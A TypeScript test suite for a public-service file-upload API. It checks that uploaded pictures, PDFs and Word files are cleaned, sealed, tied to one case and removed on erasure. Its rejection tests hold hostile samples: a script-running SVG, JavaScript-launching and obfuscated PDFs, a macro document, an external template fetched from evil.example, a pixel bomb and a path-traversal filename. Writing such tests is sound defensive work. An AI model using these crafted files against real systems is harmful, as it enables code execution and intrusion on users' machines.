import { CASE_PATHS, type CaseFile, type Problem } from '@minzong/api-contract';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { connect as connectSocket } from 'node:net';
import { join } from 'node:path';
import sharp from 'sharp';
import { startApi, type ApiUnderTest } from '../../../testing/api-under-test';
import { createCitizens } from '../../../testing/citizens';
import { eventually } from '../../../testing/eventually';
import { guideWithForm } from '../../../testing/guide-with-form';

let api: ApiUnderTest;
const { act, decideAll, look, post, state, submit, upload, uploaded } = createCitizens(() => api);

const guide = guideWithForm();
const target = { guide: guide.id, material: 'photo' };

beforeAll(async () => {
  api = await startApi();
  await api.sender.publish(guide);
});
afterAll(() => api.close());

const picture = (width = 40, height = 30): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: '#a03020' } })
    .withExif({ IFD0: { Artist: 'Somebody Secret' }, IFD3: { GPSLatitude: '29/1 33/1 0/1' } })
    .jpeg()
    .toBuffer();

const pdf = (inside = ''): Buffer =>
  Buffer.from(`%PDF-1.4\n1 0 obj\n<< /Type /Catalog ${inside} >>\nendobj\nstartxref\n9\n%%EOF\n`);

const TYPES = '<Types><Override PartName="/word/document.xml"/></Types>';
const word = (parts: Zippable = {}, types = TYPES): Buffer =>
  Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(types),
      'word/document.xml': strToU8('<w:document/>'),
      ...parts,
    }),
  );

const onDisk = (): string[] => {
  const folder = join(api.directory, 'case-files');
  return existsSync(folder)
    ? readdirSync(folder, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => join(entry.parentPath, entry.name))
    : [];
};
const openFile = async ({ number, code }: { number: string; code: string }, file: string) =>
  post(CASE_PATHS.openFile, { number, code, file });

it('makes a picture anew, keeps it sealed, and gives it back to who holds number and code', async () => {
  const bytes = await picture();
  expect(bytes.includes('Somebody Secret')).toBe(true);
  const file = await uploaded(upload(target, bytes, '../户口簿\u202e.png'));
  expect(file).toMatchObject({ name: '户口簿.jpg', mime: 'image/jpeg' });
  const receipt = await submit(guide.id, { photo: [file.id] });
  const opened = await openFile(receipt, file.id);
  expect(opened.headers.get('content-disposition')).toContain('attachment');
  const given = Buffer.from(await opened.arrayBuffer());
  const { width, height, exif } = await sharp(given).metadata();
  expect([width, height, exif]).toEqual([40, 30, undefined]);
  for (const path of onDisk()) {
    const kept = readFileSync(path);
    expect(kept.includes(Buffer.from([0xff, 0xd8, 0xff]))).toBe(false);
    expect(kept.includes('户口簿')).toBe(false);
  }
});

it.each<[string, () => Promise<Buffer> | Buffer, number, string]>([
  ['nothing', () => Buffer.alloc(0), 422, 'case-file-empty'],
  [
    'a program that calls itself a picture',
    () => Buffer.from('MZ\u0090 program'),
    415,
    'case-file-kind',
  ],
  [
    'a drawing that runs scripts',
    () => Buffer.from('<svg onload="alert(1)"/>'),
    415,
    'case-file-kind',
  ],
  [
    'half a picture',
    async () => (await picture(900, 900)).subarray(0, 2000),
    422,
    'case-file-broken',
  ],
  ['a picture of 400 megapixels', () => bomb(), 422, 'case-file-broken'],
  ['half a PDF', () => pdf().subarray(0, 40), 422, 'case-file-broken'],
  ['a PDF that acts', () => pdf('/OpenAction << /S /JavaScript >>'), 422, 'case-file-active'],
  ['one that hides it', () => pdf('/S /J#61vaScript'), 422, 'case-file-active'],
  ['a locked PDF', () => pdf('/Encrypt 5 0 R'), 422, 'case-file-locked'],
  [
    'a zip that is no document',
    () => Buffer.from(zipSync({ a: strToU8('b') })),
    422,
    'case-file-broken',
  ],
  ['macros', () => word({ 'word/vbaProject.bin': strToU8('x') }), 422, 'case-file-active'],
  ['a document of another kind', () => word({}, `${TYPES}macroEnabled`), 422, 'case-file-active'],
  [
    'a template from elsewhere',
    () => word({ 'word/_rels/settings.xml.rels': relation() }),
    422,
    'case-file-active',
  ],
  [
    'more than is allowed',
    () => Buffer.concat([pdf(), Buffer.alloc(3 << 20)]),
    413,
    'case-file-too-large',
  ],
  ['far more than is allowed', () => Buffer.alloc(25 << 20), 413, 'case-file-too-large'],
])('refuses %s, and leaves nothing of it', async (_, bytes, status, code) => {
  const before = onDisk().length;
  const answer = await upload(target, await bytes());
  expect([answer.status, ((await answer.json()) as Problem).code]).toEqual([status, code]);
  expect(onDisk()).toHaveLength(before);
});

const relation = () =>
  strToU8(
    '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
  );

/** A few hundred bytes that say they are 20,000 by 20,000 pixels. */
const bomb = async (): Promise<Buffer> => {
  const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } })
    .png()
    .toBuffer();
  png.writeUInt32BE(20_000, 16);
  png.writeUInt32BE(20_000, 20);
  return png;
};

it('takes a PDF and a document as they are', async () => {
  for (const [bytes, name] of [
    [pdf(), '证明.PDF'],
    [word(), '申请.doc'],
  ] as const) {
    const answer = await upload(target, bytes, name);
    expect(answer.status).toBe(201);
    expect(((await answer.json()) as CaseFile).sizeBytes).toBe(bytes.length);
  }
});

it('leaves nothing of an upload that was cut off', async () => {
  const before = onDisk().length;
  const { hostname, port } = new URL(api.url);
  await new Promise<void>((resolve) => {
    const socket = connectSocket(Number(port), hostname, () => {
      socket.write(
        `POST ${CASE_PATHS.files} HTTP/1.1\r\nhost: x\r\ncontent-type: multipart/form-data; boundary=b\r\ncontent-length: 90000\r\n\r\n--b\r\ncontent-disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4`,
      );
      setTimeout(() => {
        socket.destroy();
        resolve();
      }, 100);
    });
    socket.on('error', () => undefined);
  });
  expect((await api.get('/health/live')).status).toBe(200);
  expect(onDisk()).toHaveLength(before);
});

it('gives a file to one case alone, for what it was made for, and to nobody else', async () => {
  const file = await uploaded(upload(target, pdf()));
  const mine = await submit(guide.id, { photo: [file.id] });
  await expect(submit(guide.id, { photo: [file.id] })).rejects.toThrow('case-file-gone');
  await expect(submit(guide.id, { photo: ['ab'.repeat(16)] })).rejects.toThrow('case-file-gone');
  const yours = await submit(guide.id);
  expect((await openFile(yours, file.id)).status).toBe(404);
  expect((await openFile(mine, file.id)).status).toBe(200);
  expect((await post(CASE_PATHS.fileDeletion, { id: file.id })).status).toBe(204);
  expect((await openFile(mine, file.id)).status).toBe(200);
});

it('deletes a file that belongs to nothing when its owner wants', async () => {
  const before = onDisk().length;
  const file = await uploaded(upload(target, pdf()));
  expect(onDisk()).toHaveLength(before + 1);
  await post(CASE_PATHS.fileDeletion, { id: file.id });
  expect(onDisk()).toHaveLength(before);
  await expect(submit(guide.id, { photo: [file.id] })).rejects.toThrow('case-file-gone');
});

it('lets a result go out with the decision, and writes down who opened what', async () => {
  const file = await uploaded(upload(target, pdf()));
  const receipt = await submit(guide.id, { photo: [file.id] });
  const { number } = receipt;
  const body = new FormData();
  body.set('file', new Blob([Buffer.from(pdf())]), '准予决定书.pdf');
  const request = new Request('http://x', { method: 'POST', body });
  const sent = await api.sender.call({
    ...{ method: 'POST', path: `${CASE_PATHS.desk}/${number}/results` },
    headers: { 'content-type': request.headers.get('content-type') ?? '' },
    body: Buffer.from(await request.arrayBuffer()),
  });
  const result = (await sent.json()) as CaseFile;
  expect(sent.status).toBe(201);
  await decideAll(
    number,
    { act: 'accept' },
    { act: 'decide', outcome: 'approved', result: result.id },
  );
  expect((await state(receipt)).result).toEqual(result);
  expect((await openFile(receipt, result.id)).status).toBe(200);
  const opened = await api.sender.post(`${CASE_PATHS.desk}/${number}/file`, {
    ...{ official: { id: 8, name: '官员8' }, file: file.id },
  });
  expect([opened.status, opened.headers.get('content-type')]).toEqual([200, 'application/pdf']);
  expect((await look(number)).looks.map(({ official }) => official.id)).toContain(8);
});

it('removes the files of a case that was erased', async () => {
  const file = await uploaded(upload(target, pdf()));
  const receipt = await submit(guide.id, { photo: [file.id] });
  const before = onDisk().length;
  await act(receipt, { act: 'withdraw' });
  const { number, code } = receipt;
  await post(CASE_PATHS.erasure, { number, code, confirm: 'delete-my-case' });
  await eventually(() => {
    expect(onDisk()).toHaveLength(before - 1);
    return Promise.resolve();
  });
});
